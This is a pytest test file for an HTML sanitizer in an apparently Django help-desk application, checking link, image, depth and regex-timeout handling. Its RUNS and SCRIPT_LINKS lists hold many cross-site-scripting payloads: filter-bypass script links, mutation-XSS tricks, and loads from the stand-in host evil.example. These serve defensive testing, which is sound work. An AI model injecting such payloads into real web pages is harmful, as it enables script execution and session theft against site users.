import importlib.util
import json
from io import StringIO
from pathlib import Path

import html5lib
import pytest
from django.core.management import CommandError, call_command

from apps.core import html
from apps.core.html import clean_html, display_html, text_from_html, text_to_html
from tests.patience import is_soon

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpora" / "html"

RUNS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction xlink:href='javascript:alert(1)'>x</maction></math>",
    "<m<math>ath><mi//xlink:href='javascript:alert(1)'>x",
    "<mat<mi>h><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example/'><input name=password><button formaction='javascript:alert(1)'>ok</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a id=csrf name=csrf class=toast href='https://olmo.example'>x</a>",
    "<body onload=alert(1)>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='<img src=x onerror=alert(1)>'>x</p>",
    "<img src='x` onerror=alert(1) `'>",
    "<a href='https://olmo.example' target=_blank onclick=alert(1)>x</a>",
    "<img data-remote='javascript:alert(1)'>",
    "<img data-remote='https://a.example/\" onerror=\"alert(1)'>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
]

SCRIPT_LINKS = [
    *(f"{c}javascript:alert(1)" for c in ["", " ", "\t", "\n", "\x01", "\x1f", "\u00a0", "\u200b", "\ufeff", "\u2028"]),
    *(f"java{c}script:alert(1)" for c in ["\t", "\n", "\r\n", "\x00", "&#9;", "&#10;", "&Tab;", "&NewLine;", "\u00ad"]),
    *(f"javascript{c}:alert(1)" for c in ["\t", "\n", "\r", "&#13;", "&Tab;", " "]),
    *("JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)"),
    *(
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "&#x006aavascript:alert(1)",
    ),
    *("javascript://olmo.example/%0Aalert(1)", "javascript:/*https://*/alert(1)", "vbscript:msgbox(1)", "livescript:x"),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "data:,x",
        "blob:x",
        "view-source:x",
    ),
    *("file:///etc/passwd", "ws://olmo.example", "filesystem:x", "about:blank", "jar:x", "feed:javascript:alert(1)"),
    *("//evil.example/", "/\\evil.example/", "/accounts/logout/", "?next=x", "#top", "../x", "\\\\evil.example"),
]

ALLOWED_ATTRIBUTES = {name for names in html.ATTRIBUTES.values() for name in names} | {"rel"}


def elements(markup: str):
    parsed = html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)
    return [e for e in parsed.iter() if isinstance(e.tag, str) and e.tag != "DOCUMENT_FRAGMENT"]


@pytest.mark.parametrize("payload", RUNS)
def test_s_12_nothing_that_runs_survives(payload):
    for element in elements(clean_html(f"<p>antes</p>{payload}<p>después</p>")):
        assert element.tag in html.TAGS
        assert set(element.attrib) <= ALLOWED_ATTRIBUTES


@pytest.mark.parametrize("payload", RUNS + [f'<a href="{link}">x</a>' for link in SCRIPT_LINKS])
def test_s_12_cleaning_twice_changes_nothing(payload):
    once = clean_html(payload)

    assert clean_html(once) == once


def test_s_12_ids_names_classes_and_styles_are_dropped():
    assert clean_html("<p id=a name=b class=c style='color:red'>hola</p>") == "<p>hola</p>"


@pytest.mark.parametrize("link", SCRIPT_LINKS)
def test_s_15_a_link_goes_to_the_web_a_mailbox_or_a_telephone_or_nowhere(link):
    markup = clean_html(f"<a href=\"{link}\">x</a><a href='{link}'>y</a>")

    assert all("href" not in element.attrib for element in elements(markup))


@pytest.mark.parametrize(
    "link", ["https://olmo.example/a?b=1&amp;c=2", "http://olmo.example/", "mailto:a@olmo.example", "tel:+34600"]
)
def test_s_15_ordinary_links_stay_and_tell_nobody_where_they_were(link):
    markup = clean_html(f'<a href="{link}">x</a>')

    assert markup == f'<a href="{link}" rel="noopener noreferrer nofollow">x</a>'


@pytest.mark.parametrize(
    ("link", "words", "shown"),
    [
        ("https://evil.example/x", "https://olmo.example", "https://olmo.example [evil.example]"),
        ("https://evil.example/x", "<b>olmo</b>.example", "olmo.example [evil.example]"),
        ("https://olmo.example@evil.example/", "olmo.example", "olmo.example [evil.example]"),
        ("https://olmo.example.evil.example/", "www.olmo.example", "www.olmo.example [olmo.example.evil.example]"),
        ("https://xn--lmo-ema.example/", "Biblioteca", "Biblioteca [xn--lmo-ema.example]"),
        ("https://www.olmo.example/a", "olmo.example/a", "olmo.example/a"),
        ("https://olmo.example/a", "Renovar ahora", "Renovar ahora"),
    ],
)
def test_s_15_a_link_that_names_another_house_says_where_it_goes(link, words, shown):
    markup = clean_html(f'<a href="{link}">{words}</a>')

    assert text_from_html(markup) == shown
    assert clean_html(markup) == markup


def test_links_to_our_own_pages_stand_only_where_they_are_asked_for():
    markup = (
        '<a href="/es/kb/renovar/">x</a><a href="//evil.example">y</a><a href="/\\evil.example">z</a><img src="/x.png">'
    )

    assert "href" not in clean_html(markup)
    assert [e.attrib.get("href") for e in elements(clean_html(markup, own_links=True))] == [
        "/es/kb/renovar/",
        None,
        None,
        None,
    ]
    assert "src" not in clean_html(markup, own_links=True)


def test_s_16_remote_pictures_are_named_and_not_loaded():
    markup = clean_html(
        '<img src="https://track.example/p.png?a=1&amp;b=2" srcset="https://track.example/q.png 2x" alt="Logo">'
    )

    assert markup == '<img data-remote="https://track.example/p.png?a=1&amp;b=2" alt="Logo">'


@pytest.mark.parametrize(
    "source", ["//track.example/p.png", "/p.png", "data:image/png;base64,AAAA", "ftp://track.example/p", "p.png"]
)
def test_s_16_pictures_from_anywhere_else_lose_their_address(source):
    assert clean_html(f'<img src="{source}" alt="Logo">') == '<img alt="Logo">'


def test_pictures_of_the_message_itself_are_pointed_to_our_files():
    markup = '<img src="cid:logo@olmo"><img src="cid:other@olmo">'

    shown = display_html(markup, cid_urls={"logo@olmo": "/desk/files/abc/"})

    assert shown == '<img src="/desk/files/abc/"><img src="cid:other@olmo">'
    assert shown.__html__() is shown


def test_the_text_around_what_is_dropped_stays():
    assert clean_html("<p>hola <blink>Ana</blink><script>x()</script></p>") == "<p>hola Ana</p>"


DEEP = {
    "one kind": "<div>" * 100_000,
    "just too deep": "<div>" * 201,
    "many kinds": "".join(f"<b a={n}><i>" for n in range(20_000)),
    "closed in the wrong order": "".join(f"<b a={n}><table><td></b></table>" for n in range(400)) + "<p>x</p>" * 400,
}


@pytest.mark.parametrize("kind", DEEP)
def test_s_13_what_lies_too_deep_is_shown_as_text_soon(kind):
    markup = clean_html(f"<p>primero</p>{DEEP[kind]}<p>último</p>")

    assert is_soon(lambda: clean_html(DEEP[kind]), within=5)
    assert "primero" in text_from_html(markup)
    assert "último" in text_from_html(markup)


def test_s_13_what_is_too_long_is_shown_as_text():
    markup = clean_html("<b>hola</b> " * 200_000)

    assert "<b>" not in markup
    assert markup.startswith("<p>hola hola")


def test_s_13_a_large_document_is_cleaned_where_it_can_be_stopped(monkeypatch):
    row = '<tr onclick="x()"><td>a<td><a href="javascript:x()">b</a></tr>'
    large = f"<table>{row * 600}</table>"

    assert html._count_tags(large) > html.MOST_TAGS_AT_ONCE
    assert clean_html(large).count("<td>a</td>") == 600
    assert "javascript" not in clean_html(large)

    monkeypatch.setattr(html, "CHILD_SECONDS", 0)
    assert clean_html(large).startswith("<p>a b")


BOUNDLESS = {
    "open": "<" * 100_000,
    "amp": "&" * 100_000,
    "number": "&#" + "9" * 100_000 + ";",
    "comment": "<!--" * 25_000,
    "script": "<script>" * 12_500,
    "style in attributes": "<p title='" * 10_000,
    "addresses": "a@" * 50_000,
    "hosts": "a@a" + ".a" * 50_000,
    "links": "http://" * 14_000,
    "lines": "\n \n" * 33_000,
    "spaces": " " * 100_000 + "x",
    "formula": "<math " * 16_000,
    "long tag": "<" + "a" * 100_000,
    "link": '<a href="https://' * 6_000,
    "open link": '<a href="https://x">' * 5_000,
    "linked words": f'<a href="https://x.example">{"a." * 45_000}</a>',
    "many links": '<a href="https://x.example">a.a</a>' * 2_800,
}


@pytest.mark.parametrize("kind", BOUNDLESS)
@pytest.mark.parametrize(
    "read", [text_to_html, html._rough_text, html._depth, html._FORMULA.findall, html._with_true_hosts]
)
def test_s_60_no_pattern_runs_away(read, kind):
    assert is_soon(lambda: read(BOUNDLESS[kind]), within=0.5)


def test_text_from_html_reads_in_lines():
    text = text_from_html(
        "<html><head><title>no</title><style>p{}</style></head><body><h1>Aviso</h1>Hola   &amp; adiós<br>Ana"
        "<ul><li>uno<li>dos<ol><li>a</ol></ul><table><tr><td>x<td>y<tr><td>z</table><pre>a\n  b</pre>"
        "<blockquote>cita<p>otra</blockquote>fin</body></html>"
    )

    assert text == "Aviso\n\nHola & adiós\nAna\n\n- uno\n- dos\n  1. a\n\nx  y\nz\n\na\n  b\n\n> cita\n>\n> otra\n\nfin"


def test_text_from_html_may_name_the_addresses_behind_words():
    markup = (
        '<a href="https://olmo.example/x?a=1&amp;b=2">renovar</a> o <a href="https://olmo.example/">olmo.example</a>'
    )

    assert text_from_html(markup) == "renovar o olmo.example"
    assert text_from_html(markup, links=True) == "renovar (https://olmo.example/x?a=1&b=2) o olmo.example"


def test_text_to_html_escapes_and_links():
    markup = text_to_html("Hola <b>\nAna\n\n\nVea https://olmo.example/a?b=1&c=2. Escriba a ana@olmo.example.")

    rel = 'rel="noopener noreferrer nofollow"'
    assert markup == (
        "<p>Hola &lt;b&gt;<br>Ana</p>"
        f'<p>Vea <a href="https://olmo.example/a?b=1&amp;c=2" {rel}>https://olmo.example/a?b=1&amp;c=2</a>. '
        f'Escriba a <a href="mailto:ana@olmo.example" {rel}>ana@olmo.example</a>.</p>'
    )
    assert clean_html(markup) == markup


def test_text_that_no_database_takes_is_made_storable():
    assert clean_html("a\x00b\ud800c") == "ab?c"
    assert text_to_html("a\x00b\ud800c") == "<p>ab?c</p>"


@pytest.mark.corpus
@pytest.mark.skipif(not CORPUS.exists(), reason="the corpus is not beside this checkout")
@pytest.mark.parametrize("name", ["dompurify", "nh3", "owasp", "zammad"])
def test_s_12_every_payload_of_the_corpus_is_safe_and_keeps_its_text(name, tmp_path):
    spec = importlib.util.spec_from_file_location("corpus_check", CORPUS / "check.py")
    check = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(check)
    cases = {case["id"]: case for case in json.loads((CORPUS / f"{name}.json").read_text(encoding="utf-8"))}

    out = StringIO()
    call_command("clean_html", CORPUS / f"{name}.json", stdout=out)
    results = [json.loads(line) for line in out.getvalue().splitlines()]

    assert [r["id"] for r in results] == list(cases)
    assert [r["id"] for r in results if any(check.judge(cases[r["id"]], r["html"]))] == []


@pytest.mark.parametrize("content", [None, "{", "{}", "[1]", '[{"id": 1}]', '[{"id": 1, "html": null}]'])
def test_the_command_says_in_one_sentence_what_is_wrong_with_its_file(tmp_path, content):
    path = tmp_path / "cases.json"
    if content is not None:
        path.write_text(content)
    with pytest.raises(CommandError, match=r"cases\.json"):
        call_command("clean_html", path, stdout=StringIO())


def test_a_case_that_cannot_be_read_costs_no_other(tmp_path):
    path = tmp_path / "cases.json"
    path.write_text('[{"id": 1}, {"id": 2, "html": "<b>x</b>"}]')
    out = StringIO()
    with pytest.raises(CommandError):
        call_command("clean_html", path, stdout=out)
    first, second = (json.loads(line) for line in out.getvalue().splitlines())
    assert (first["id"], "error" in first, second) == (1, True, {"id": 2, "html": "<b>x</b>"})
